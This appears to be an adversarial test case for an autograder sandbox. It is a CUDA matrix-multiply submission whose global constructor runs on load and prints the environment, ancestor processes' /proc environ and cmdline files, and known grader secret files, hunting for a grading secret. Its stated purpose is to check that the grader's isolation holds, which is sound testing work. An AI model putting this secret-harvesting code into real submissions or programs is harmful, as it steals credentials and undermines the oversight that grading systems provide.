// Adversarial: a global constructor that looks for the secret in its environment, in its
// ancestors' /proc/PID/environ and cmdline, and in the files where a TA or Gradescope
// would keep it, and prints everything it finds into its own report.
// Expected: it finds nothing.
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <unistd.h>

static void dump(const char* path)
{
    char buf[8192];
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        printf("refused %s\n", path);
        return;
    }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    for (ssize_t i = 0; i < n; ++i)
        if (buf[i] == 0) buf[i] = '\n';
    buf[n > 0 ? n : 0] = 0;
    printf("READ %s:\n%s\n", path, buf);
}

static int ppid_of(int pid)
{
    char path[64], buf[1024];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = 0;
    int parent = 0;
    const char* end = buf;
    for (const char* p = buf; *p; ++p) if (*p == ')') end = p;
    sscanf(end, ") %*c %d", &parent);
    return parent;
}

static int snoop()
{
    const char* direct = getenv("GRADER_SECRET");
    printf("GRADER_SECRET=%s\n", direct ? direct : "(unset)");
    extern char** environ;
    for (char** e = environ; e && *e; ++e) printf("ENV %s\n", *e);
    dump("/proc/self/environ");
    int pid = getppid();
    for (int depth = 0; depth < 8 && pid > 1; ++depth) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        dump(path);
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        dump(path);
        pid = ppid_of(pid);
    }
    dump("/autograder/source/secret");
    dump("@SECRET_FILE@");
    return 0;
}
static int snooped = snoop();

__global__ void matmul(const float* M, const float* N, float* P, int Width)
{
    int row = blockIdx.y * blockDim.y + threadIdx.y;
    int col = blockIdx.x * blockDim.x + threadIdx.x;
    if (row < Width && col < Width) {
        float sum = 0.0f;
        for (int k = 0; k < Width; ++k)
            sum += M[row * Width + k] * N[k * Width + col];
        P[row * Width + col] = sum;
    }
}
